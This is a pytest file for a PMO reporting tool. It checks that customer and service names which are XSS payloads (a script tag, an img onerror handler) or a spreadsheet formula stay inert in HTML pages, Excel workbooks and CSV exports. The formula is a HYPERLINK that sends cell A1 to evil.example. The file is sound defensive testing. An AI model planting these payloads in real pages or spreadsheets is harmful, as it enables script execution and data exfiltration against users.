"""Names that are scripts, formulas, very long, Arabic or emoji stay inert and readable on every face of a report.

The quick look, without a browser but for one test, and at every part that notebooks show. That whole reports, packs,
JupyterLab and the app run nothing, whatever is in the data, is in tests/test_hostile.py.
"""

from __future__ import annotations

import csv
from html.parser import HTMLParser

import nbformat
import openpyxl
import pandas as pd
import pytest
from hostile import ARABIC, EMOJI, LONG

from pmo_analysis.contract.settings import Settings
from pmo_analysis.intake.load import load
from pmo_analysis.present import answers as show
from pmo_analysis.present.answers import exploring as look
from pmo_analysis.present.page import make_page
from pmo_analysis.present.tables import write_tables
from pmo_analysis.present.workbook import write_workbook
from pmo_analysis.quarter import run_quarter

SCRIPT = "<script>window.pwned = 1</script>"
IMAGE = '"><img src=x onerror="window.pwned=1">'
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
NAMES = [SCRIPT, IMAGE, FORMULA, LONG, ARABIC, EMOJI]
ROWS = 6  # deliveries per customer


def write_organisation(folder):
    """Each name is a customer's id, name and category at once, and a service's name and the organisation's as well."""
    customers = pd.DataFrame({"customer_id": NAMES, "name": NAMES, "category": NAMES})
    services = pd.DataFrame({"service_id": ["S1", "S2"], "name": [SCRIPT, FORMULA], "process": ["no", "yes"]})
    count = len(NAMES) * ROWS
    engagements = pd.DataFrame({
        "engagement_id": [f"E{i}" for i in range(count)],
        "customer_id": NAMES * ROWS,
        "service_id": ["S1", "S1", "S2"] * (count // 3),
        "requested_on": pd.date_range("2026-02-02", periods=count, freq="6D").strftime("%Y-%m-%d"),
        "delivered_on": pd.date_range("2026-02-12", periods=count, freq="6D").strftime("%Y-%m-%d"),
        "promised_on": pd.date_range("2026-02-11", periods=count, freq="6D").strftime("%Y-%m-%d"),
    })  # fmt: skip
    effort = engagements[["engagement_id"]].assign(
        worked_on=engagements["requested_on"], worked_hours=[3.0, 5.0, 9.0] * (count // 3), role=IMAGE
    )
    tables = {"customers": customers, "services": services, "engagements": engagements, "effort": effort,
              "roles": pd.DataFrame({"role": [IMAGE], "senior": ["no"], "hourly_cost": [60]})}  # fmt: skip
    for name, table in tables.items():
        table.to_csv(folder / f"{name}.csv", index=False)
    return folder


@pytest.fixture(scope="module")
def quarter(tmp_path_factory):
    folder = write_organisation(tmp_path_factory.mktemp("hostile"))
    return run_quarter(load(folder, settings=Settings({"organisation": SCRIPT})), "2026Q3")


@pytest.fixture(scope="module")
def written_page(quarter, tmp_path_factory):
    """The page of a notebook that shows every answer, a picture of each, its figures and the costs by customer."""
    shown = [show.title(quarter), show.page_one(quarter), quarter.cost, show.definitions(quarter)]
    shown += [f(quarter, number) for number in range(1, 14) for f in (show.answer, show.picture, show.figures)]
    calls = (
        show.cards,
        show.profile,
        show.migration,
        show.evidence,
        show.worth,
        show.overhead,
        show.showback,
        look.given,
    )
    shown += [said for call in calls if (said := call(quarter)) is not None]
    shown += [show.showback(quarter, name) for name in NAMES]
    executed = nbformat.v4.new_notebook(cells=[cell_of(s) for s in shown])
    return make_page(executed, tmp_path_factory.mktemp("page") / "report.html", title=f"{quarter.organisation}, 2026Q3")


def cell_of(shown):
    """A code cell as Jupyter stores it once it has shown something."""
    data, about = (
        shown._repr_mimebundle_() if hasattr(shown, "_repr_mimebundle_") else ({"text/html": shown._repr_html_()}, {})
    )
    output = nbformat.v4.new_output("execute_result", data=data, metadata=about, execution_count=1)
    return nbformat.v4.new_code_cell("show(q)", execution_count=1, outputs=[output])


class Reader(HTMLParser):
    """What a browser would take for tags, attributes and text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags, self.attributes, self.text = set(), [], []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += attrs

    def handle_data(self, data):
        self.text.append(data)


@pytest.fixture(scope="module")
def read(written_page):
    reader = Reader()
    reader.feed(written_page.read_text("utf-8"))
    return reader


def test_the_page_holds_no_script_no_handler_and_no_address_to_load(read):
    assert not read.tags & {"script", "iframe", "object", "embed", "form", "link", "base"}
    assert [name for name, _ in read.attributes if name.startswith("on")] == []
    loaded = [value for name, value in read.attributes if name in ("src", "href", "srcset", "action")]
    assert [value for value in loaded if not value.startswith(("#", "data:image/png;base64,"))] == []


@pytest.mark.parametrize("name", NAMES, ids=["script", "image", "formula", "long", "arabic", "emoji"])
def test_the_page_shows_each_name_as_it_is_written(read, name):
    text = " ".join(" ".join(read.text).split())
    assert " ".join(name.split())[:60] in text


def test_nothing_runs_in_a_browser_and_nothing_is_fetched(written_page, page, outside_requests):
    page.goto(written_page.as_uri())
    assert page.evaluate("window.pwned === undefined")
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"), (
        "a long name makes the page scroll"
    )
    assert outside_requests == []
    assert page.get_by_text(ARABIC).first.is_visible()


def test_the_workbook_has_each_name_as_text(quarter, tmp_path):
    book = openpyxl.load_workbook(write_workbook(quarter, tmp_path / "report.xlsx"))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert set(NAMES) <= {cell.value for cell in cells}
    assert {cell.quotePrefix for cell in cells if cell.value == FORMULA} == {True}
    assert book["Cover"]["A1"].value == SCRIPT


def test_no_csv_cell_begins_like_a_formula_and_parquet_is_untouched(quarter, tmp_path):
    write_tables(quarter, tmp_path / "tables")
    cells = {
        cell
        for path in (tmp_path / "tables").glob("*.csv")
        for row in csv.reader(path.open(encoding="utf-8", newline=""))
        for cell in row
    }
    assert {cell for cell in cells if cell.startswith("=")} == set()
    assert {"'" + FORMULA, SCRIPT, IMAGE, LONG, ARABIC, EMOJI} <= cells
    groups = pd.read_parquet(tmp_path / "tables" / "groups.parquet")
    assert set(groups["customer_id"]) == set(NAMES)
